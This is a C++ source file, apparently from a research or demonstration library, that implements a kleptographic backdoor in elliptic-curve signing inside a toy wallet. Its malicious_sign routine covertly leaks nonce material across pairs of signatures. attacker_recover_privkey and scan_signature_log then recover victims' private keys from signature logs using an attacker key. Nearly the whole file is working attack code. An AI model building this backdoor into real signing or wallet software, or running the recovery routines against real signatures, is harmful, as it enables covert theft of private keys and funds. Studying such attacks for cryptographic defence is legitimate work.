#include "klepto/setup_signer.hpp"

#include <algorithm>
#include <mutex>

#include "klepto/error.hpp"
#include "klepto/parallel.hpp"

namespace klepto {

Signature malicious_sign(MaliciousSigner& signer, ByteView msg, const CurveParams& params,
                         EntropySource& rng, std::uint32_t max_retry)
{
    if (signer.signature_counter % 2 == 0) {
        // round-1 signature: a rejected nonce is replaced by a fresh c1
        for (;;) {
            Round1Result r1 = klepto_round1(signer.klepto, rng, params);
            try {
                Signature sig = sign(msg, signer.keypair.d, r1.c1, params);
                signer.signature_counter += 1;
                return sig;
            } catch (const RetryNonceError&) {
                signer.klepto.phase = KleptoPhase::round1_pending;
            }
        }
    }
    // round-2 signature: a rejected nonce is re-derived from the same Z
    Round2Result r2 = klepto_round2(signer.klepto, rng, params);
    for (;;) {
        try {
            Signature sig = sign(msg, signer.keypair.d, r2.candidate.c, params);
            signer.signature_counter += 1;
            return sig;
        } catch (const RetryNonceError&) {
            if (r2.candidate.retry >= max_retry)
                throw Error("kleptogram retry budget exhausted");
            klepto_rederive(r2.candidate, signer.klepto.setup.prng_seed, params);
        }
    }
}

std::optional<BigInt> attacker_recover_privkey(const SignatureRecord& rec1,
                                               const SignatureRecord& rec2,
                                               const BigInt& attacker_priv,
                                               const SetupParams& setup, const CurveParams& params,
                                               std::uint32_t max_retry)
{
    if (rec1.pubkey != rec2.pubkey)
        throw ValidationError("signature records belong to different public keys");
    if (!verify(rec1.msg, rec1.sig, rec1.pubkey, params).accepted() ||
        !verify(rec2.msg, rec2.sig, rec2.pubkey, params).accepted())
        throw ValidationError("signature record does not verify");

    Point m1 = reconstruct_nonce_point(rec1.msg, rec1.sig, rec1.pubkey, params);
    Point m2 = reconstruct_nonce_point(rec2.msg, rec2.sig, rec2.pubkey, params);
    std::optional<BigInt> k2 = klepto_recover(m1, m2, attacker_priv, setup, max_retry, params);
    if (!k2)
        return std::nullopt;
    BigInt d = extract_key_from_known_nonce(rec2.msg, rec2.sig, *k2, params);
    if (scalar_mul(d, params.G, params) != rec2.pubkey)
        return std::nullopt;
    return d;
}

ScanResult scan_signature_log(std::span<const SignatureRecord> log, const BigInt& attacker_priv,
                              const SetupParams& setup, const CurveParams& params,
                              std::uint32_t max_retry, unsigned threads)
{
    ScanResult result;

    // group by public key, preserving index order
    std::map<Bytes, std::vector<const SignatureRecord*>> groups;
    for (const SignatureRecord& rec : log) {
        if (rec.pubkey.infinity || !on_curve(rec.pubkey, params) ||
            !verify(rec.msg, rec.sig, rec.pubkey, params).accepted()) {
            result.skipped_records += 1;
            continue;
        }
        groups[encode_point(rec.pubkey, params)].push_back(&rec);
    }
    for (auto& [key, group] : groups)
        std::stable_sort(group.begin(), group.end(),
                         [](const SignatureRecord* a, const SignatureRecord* b) {
                             return a->index < b->index;
                         });

    std::mutex mutex;
    for (auto& [key, group] : groups) {
        if (group.size() < 2)
            continue;
        std::atomic<bool> found{false};
        std::size_t pair_count = group.size() - 1;
        parallel_for(pair_count, threads, [&](unsigned, std::size_t i) {
            if (found.load())
                return;
            std::optional<BigInt> d =
                attacker_recover_privkey(*group[i], *group[i + 1], attacker_priv, setup, params,
                                         max_retry);
            std::lock_guard lock(mutex);
            result.pairs_tried += 1;
            if (d && !found.exchange(true))
                result.keys.push_back(RecoveredKey{group[i]->pubkey, std::move(*d)});
        });
    }
    return result;
}

AddressBytes derive_address(const Point& q, const CurveParams& params)
{
    if (q.infinity)
        throw ValidationError("cannot derive an address for the identity point");
    return double_sha256(encode_point(q, params));
}

Bytes serialize_transaction(const SimpleTransaction& tx)
{
    Bytes out = ascii_bytes("STX1");
    append_be32(out, static_cast<std::uint32_t>(tx.inputs.size()));
    for (const TxInput& in : tx.inputs) {
        append_bytes(out, ByteView(in.prev_txid.data(), in.prev_txid.size()));
        append_bytes(out, ByteView(in.address.data(), in.address.size()));
    }
    append_be32(out, static_cast<std::uint32_t>(tx.outputs.size()));
    for (const TxOutput& o : tx.outputs) {
        append_bytes(out, ByteView(o.address.data(), o.address.size()));
        append_be64(out, o.amount_satoshi);
    }
    return out;
}

Bytes transaction_signing_payload(const SimpleTransaction& tx, std::uint32_t input_index)
{
    Bytes payload = serialize_transaction(tx);
    append_be32(payload, input_index);
    return payload;
}

void Wallet::add_key(KeyPair keypair, std::optional<SetupParams> setup, const CurveParams& params)
{
    AddressBytes address = derive_address(keypair.Q, params);
    Entry entry;
    entry.keypair = keypair;
    if (setup)
        entry.malicious = MaliciousSigner{
            std::move(keypair),
            KleptoState{std::move(*setup), KleptoPhase::round1_pending, 0}, 0};
    entries_[address] = std::move(entry);
}

std::vector<SignatureRecord> Wallet::sign_transaction(const SimpleTransaction& tx, SignMode mode,
                                                      const CurveParams& params,
                                                      EntropySource& rng)
{
    std::vector<SignatureRecord> records;
    records.reserve(tx.inputs.size());
    for (std::uint32_t i = 0; i < tx.inputs.size(); ++i) {
        auto it = entries_.find(tx.inputs[i].address);
        if (it == entries_.end())
            throw ValidationError("wallet does not own an input address");
        Entry& entry = it->second;
        Bytes payload = transaction_signing_payload(tx, i);

        Signature sig;
        switch (mode) {
        case SignMode::honest:
            sig = sign_with_fresh_nonce(payload, entry.keypair.d, params, rng);
            break;
        case SignMode::deterministic:
            sig = sign(payload, entry.keypair.d,
                       derive_deterministic_nonce(entry.keypair.d, payload, params), params);
            break;
        case SignMode::malicious:
            if (!entry.malicious)
                throw ValidationError("wallet key has no kleptogram setup configured");
            sig = malicious_sign(*entry.malicious, payload, params, rng);
            break;
        }
        records.push_back(SignatureRecord{next_index_++, std::move(payload), std::move(sig),
                                          entry.keypair.Q});
    }
    return records;
}

const KeyPair& Wallet::key_for(const AddressBytes& address) const
{
    auto it = entries_.find(address);
    if (it == entries_.end())
        throw ValidationError("wallet does not own this address");
    return it->second.keypair;
}

std::vector<AddressBytes> Wallet::addresses() const
{
    std::vector<AddressBytes> out;
    out.reserve(entries_.size());
    for (const auto& [address, entry] : entries_)
        out.push_back(address);
    return out;
}

} // namespace klepto
